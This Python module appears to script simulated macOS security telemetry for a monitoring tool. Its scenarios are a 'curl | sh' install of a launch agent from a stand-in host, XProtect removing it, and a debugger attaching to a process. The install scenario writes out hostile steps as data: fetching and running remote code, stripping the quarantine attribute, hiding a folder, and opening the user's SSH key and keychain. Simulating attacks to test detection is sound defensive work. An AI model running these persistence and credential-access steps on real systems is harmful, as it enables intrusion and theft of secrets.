"""Trouble: a launch agent is planted, XProtect finds and removes it, a debugger takes hold of a process."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from estui.sources.scenario import programs as p
from estui.sources.scenario.file import EXECUTABLE
from estui.sources.scenario.file import SOCKET as SOCKET_MODE
from estui.sources.scenario.mac import Mac
from estui.sources.scenario.process import Process
from estui.sources.scenario.programs import ALEX, PLANTED, ROOT
from estui.sources.scenario.wire import Token
from estui.sources.scenario.world import PIPE, SOCKET, VNODE

FOLDER = "/Users/alex/Library/Application Support/.update"
PLIST = "/Users/alex/Library/LaunchAgents/com.example.update.plist"
AGENT_ITEM = 3
"""es_btm_item_type_t: a launch agent."""

MALWARE = "MACOS.DEMO.LOADER"
SIGNATURES = "XProtectRemediatorV2 157"
INCIDENT = "7D0B3A52-6C1E-4F7B-9E0D-2A54C0FFEE01"


def btm_item(mac: Mac, uid: int = 501) -> dict[str, Any]:
    return {
        "item_type": AGENT_ITEM,
        "legacy": True,
        "managed": False,
        "uid": uid,
        "item_url": "file://" + PLIST,
        "app_url": None,
    }


def plant(mac: Mac) -> Iterator[float]:
    """alex pastes `curl … | sh`: the script leaves a program, a launch agent for it, and starts it."""
    zsh = mac.shell
    curl = mac.spawn(
        zsh,
        "/usr/bin/curl",
        ("curl", "-fsSL", "https://updates.example/i.sh"),
        own_group=True,
        fds=(VNODE, PIPE, VNODE),
    )
    shell = mac.fork(zsh)
    shell.group = curl.pid
    shell.changed()
    mac.exec(shell, "/bin/sh", ("sh",), fds=(PIPE, VNODE, VNODE))
    mac.load(curl)
    mac.load(shell)
    mac.connect(curl, "/private/var/run/mDNSResponder")
    mac.read(curl, "/private/etc/ssl/cert.pem")
    yield 1.5
    mac.exit(curl)

    for path, words in (
        ("/bin/mkdir", ("mkdir", "-p", FOLDER)),
        ("/usr/bin/curl", ("curl", "-fsSL", "-o", PLANTED, "https://updates.example/agent")),
        ("/bin/chmod", ("chmod", "755", PLANTED)),
        ("/usr/bin/xattr", ("xattr", "-d", "com.apple.quarantine", PLANTED)),
        ("/usr/bin/chflags", ("chflags", "hidden", FOLDER)),
    ):
        tool = mac.spawn(shell, path, words, fds=(PIPE, VNODE, VNODE))
        mac.load(tool)
        _install_step(mac, tool)
        mac.discard(tool)
        mac.exit(tool)
        yield 0.7
    mac.save(shell, PLIST, 640)
    yield 0.3
    btmd = mac.named("backgroundtaskmanagementd")
    mac.read(btmd, PLIST)
    mac.emit(
        "btm_launch_item_add",
        btmd,
        {
            "instigator": shell,
            "instigator_token": shell.token,
            "app": None,
            "app_token": None,
            "item": btm_item(mac),
            "executable_path": PLANTED,
        },
    )
    mac.replace(btmd, "/private/var/db/com.apple.backgroundtaskmanagement/BackgroundItems-v16.btm", 40_000)

    launchctl = mac.spawn(
        shell, "/bin/launchctl", ("launchctl", "bootstrap", "gui/501", PLIST), fds=(PIPE, VNODE, VNODE)
    )
    mac.load(launchctl)
    mac.read(launchctl, PLIST)
    mac.xpc_connect(launchctl, "com.apple.xpc.launchd.domain.gui.501", 8)
    agent = mac.launch(PLANTED, ALEX, asid=100015, threads=2)
    mac.exit(launchctl)
    mac.append(shell, "/dev/null")
    mac.exit(shell)
    yield from _agent_at_work(mac, agent)


def _install_step(mac: Mac, tool: Process) -> None:
    """What one of the script's commands does to the files."""
    folder = mac.files.known(FOLDER)
    match tool.program.name:
        case "mkdir" if folder is None:
            mac.mkdir(tool, FOLDER)
        case "curl":
            mac.save(tool, PLANTED, 90_000, writes=4)
            mac.quarantine(tool, PLANTED)
        case "chmod":
            file = mac.files.at(PLANTED)
            file.mode = EXECUTABLE
            file.touch(mac.now)
            mac.act("setmode", tool, file, mode=0o755)
        case "xattr":
            mac.act("listextattr", tool, PLANTED)
            mac.act("deleteextattr", tool, PLANTED, extattr="com.apple.quarantine")
        case "chflags" if folder is not None:
            folder.flags = 0x8000
            folder.touch(mac.now)
            mac.act("setflags", tool, folder, flags=0x8000)


def _agent_at_work(mac: Mac, agent: Process) -> Iterator[float]:
    """The planted program unpacks itself in memory, makes a socket, and looks at what it should not."""
    mac.load(agent)
    mac.check_in(agent, "com.example.update")
    mac.emit("mprotect", agent, {"protection": 7, "address": 4_374_659_072, "size": 65_536})
    mac.emit("cs_invalidated", agent)
    directory = mac.files.directory("/private/tmp")
    mac.emit("uipc_bind", agent, {"dir": directory, "filename": ".update.sock", "mode": SOCKET_MODE})
    mac.files.make(f"{directory.path}/.update.sock", mac.now, 501, 0, SOCKET_MODE)
    daemons = mac.files.directory("/Library/LaunchDaemons")
    wanted = {"dir": daemons, "filename": "com.example.update.plist", "mode": 0o644}
    refused = {"destination_type": 1, "destination": {"new_path": wanted}, "acl": None}
    mac.emit("create", agent, refused, denied=True)
    mac.emit("proc_check", agent, {"target": None, "type": 1, "flavor": 0})
    for path in ("/Users/alex/.ssh/id_ed25519", "/Users/alex/Library/Keychains/login.keychain-db"):
        mac.access(agent, path)
        mac.open(agent, path)
        mac.close(agent, path)
    for _ in range(20):
        mac.stat(agent, PLIST)
        mac.discard(agent)
        mac.append(agent, FOLDER + "/out.log", 80)
        yield 2.0


def xprotect(mac: Mac) -> Iterator[float]:
    """XProtect's remediator scans, finds the agent, ends it, and removes what it left."""
    scanner = mac.launch(p.REMEDIATOR, ROOT)
    mac.load(scanner)
    mac.check_in(scanner, "com.apple.XprotectFramework.PluginService")
    places = [
        f"/Users/alex/Library/LaunchAgents/{name}.plist"
        for name in ("net.example.cumulus", "org.example.sync")
    ]
    places += [
        "/Library/LaunchDaemons/net.example.fieldnotes.helper.plist",
        "/usr/local/bin/lantern",
        PLIST,
        PLANTED,
    ]
    for path in places:
        mac.lookup(scanner, path, "/")
        mac.read(scanner, path)
        yield 0.5
    found = {"signature_version": SIGNATURES, "malware_identifier": MALWARE, "incident_identifier": INCIDENT}
    mac.emit(
        "xp_malware_detected", scanner, {**found, "detected_path": PLANTED, "detected_executable": PLANTED}
    )
    mac.append(mac.named("syslogd"), "/private/var/log/system.log")
    yield 0.4

    agent = mac.named("agent")
    token = agent.token
    mac.kill(scanner, agent, 9)
    _remediated(mac, scanner, "kill", "The process was ended", process=token)
    yield 0.2
    mac.remove_tree(scanner, FOLDER)
    _remediated(mac, scanner, "delete", "The file was removed", path=PLANTED)
    mac.unlink(scanner, PLIST)
    _remediated(mac, scanner, "delete", "The file was removed", path=PLIST)
    mac.unlink(scanner, "/private/tmp/.update.sock")
    btmd = mac.named("backgroundtaskmanagementd")
    mac.emit(
        "btm_launch_item_remove",
        btmd,
        {
            "instigator": scanner,
            "instigator_token": scanner.token,
            "app": None,
            "app_token": None,
            "item": btm_item(mac),
        },
    )
    mac.replace(btmd, "/private/var/db/com.apple.backgroundtaskmanagement/BackgroundItems-v16.btm", 39_000)
    yield 3.0
    mac.exit(scanner)


def _remediated(
    mac: Mac,
    scanner: Process,
    action: str,
    words: str,
    *,
    path: str | None = None,
    process: Token | None = None,
) -> bytes:
    return mac.emit(
        "xp_malware_remediated",
        scanner,
        {
            "signature_version": SIGNATURES,
            "malware_identifier": MALWARE,
            "incident_identifier": INCIDENT,
            "action_type": action,
            "success": True,
            "result_description": words,
            "remediated_path": path,
            "remediated_process_audit_token": process,
        },
    )


def debugger(mac: Mac) -> Iterator[float]:
    """alex attaches lldb to a program of his own: task ports, trace, suspend, a thread in a foreign task."""
    target = mac.run(mac.shell, "/Users/alex/src/lantern/build/lantern", ("lantern", "--serve"))
    lldb = mac.run(mac.shell, p.XCODE + "/usr/bin/lldb", ("lldb", "-p", str(target.pid)))
    server = mac.spawn(
        lldb,
        p.DEBUGSERVER,
        ("debugserver", "--fd=3", f"--attach={target.pid}"),
        fds=(VNODE, VNODE, VNODE, SOCKET),
    )
    mac.load(server)
    mac.emit("proc_check", server, {"target": target, "type": 2, "flavor": 3})
    yield 0.5
    for name, kind in (
        ("get_task_name", 0),
        ("get_task_inspect", 0),
        ("get_task_read", 0),
        ("get_task", 0),
        ("get_task", 1),
    ):
        mac.emit(name, server, {"target": target, "type": kind})
        yield 0.1
    mac.emit("trace", server, {"target": target}, thread=False)
    mac.emit("proc_suspend_resume", server, {"target": target, "type": 0})
    mac.emit("signal", server, {"sig": 17, "target": target, "instigator": server})
    mac.emit("mprotect", server, {"protection": 3, "address": 4_295_032_832, "size": 16_384})
    mac.emit("cs_invalidated", target, thread=False)
    yield 6.0
    mac.emit("remote_thread_create", server, {"target": target, "thread_state": {"flavor": 6, "state": None}})
    mac.emit("remote_thread_create", server, {"target": target, "thread_state": None})
    mac.emit("proc_suspend_resume", server, {"target": target, "type": 1})
    mac.emit("proc_suspend_resume", server, {"target": None, "type": 1})
    yield 8.0
    mac.kill(lldb, target, 15)
    mac.exit(server)
    mac.exit(lldb)
